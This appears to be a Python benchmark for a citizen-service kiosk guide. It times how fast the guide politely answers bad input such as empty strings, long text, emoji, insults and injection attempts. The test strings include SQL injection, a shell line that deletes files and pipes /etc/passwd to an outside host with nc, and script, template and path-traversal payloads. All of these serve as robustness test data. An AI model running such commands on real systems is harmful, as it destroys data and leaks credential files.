"""Bad input: what no citizen means is answered politely, and at once.

Empty, 10,000 characters, emoji, control characters, other scripts, SQL and shell fragments,
insults: each is asked of the whole guide (search, intents, answer) over the shipped catalogue; the
slowest kind counts.
"""

from __future__ import annotations

import time

from bench.figures import Figure, p50
from kiosk.catalogue.opening import open_guide
from kiosk.catalogue.reading import SHIPPED
from kiosk.catalogue.shipped import read_shipped

TIMES = 20
BAD = (
    "",
    " \t\r\n\x00\x1b[2J\u202e\ufeff",
    "khai sinh " * 1_000,
    "a" * 10_000,
    "ắ" * 10_000,
    "🙂👨‍👩‍👧‍👦🇻🇳" * 800,
    "ß\u0301\u0323" * 3_000,
    "出生登记需要什么文件 где туалет كيف أسجل الولادة " * 100,
    "'; DROP TABLE ticket;-- OR 1=1",
    "$(rm -rf /) `reboot` && cat /etc/passwd | nc 1.2.3.4 99",
    "<script>alert(1)</script> {{7*7}} %s%n ../../etc/shadow",
    "đồ ngu, làm ăn như thế à, cút đi",
    "you stupid machine",
)


def measure() -> list[Figure]:
    """The slowest kind and the middle one; of each the middle of TIMES askings."""
    guide = open_guide(read_shipped(SHIPPED))
    guide.ask("khai sinh")
    slowest: list[float] = []
    for text in BAD:
        took = []
        for _ in range(TIMES):
            begin = time.perf_counter()
            answer = guide.ask(text)
            took.append((time.perf_counter() - begin) * 1000)
            assert answer.spoken
            assert answer.next
        slowest.append(p50(took))
    return [
        Figure(row=10, what=f"bad input, the slowest of {len(BAD)} kinds", value=max(slowest),
               unit="ms", at_most=10.0),
        Figure(row=10, what="bad input, the middle kind", value=p50(slowest), unit="ms"),
    ]  # fmt: skip
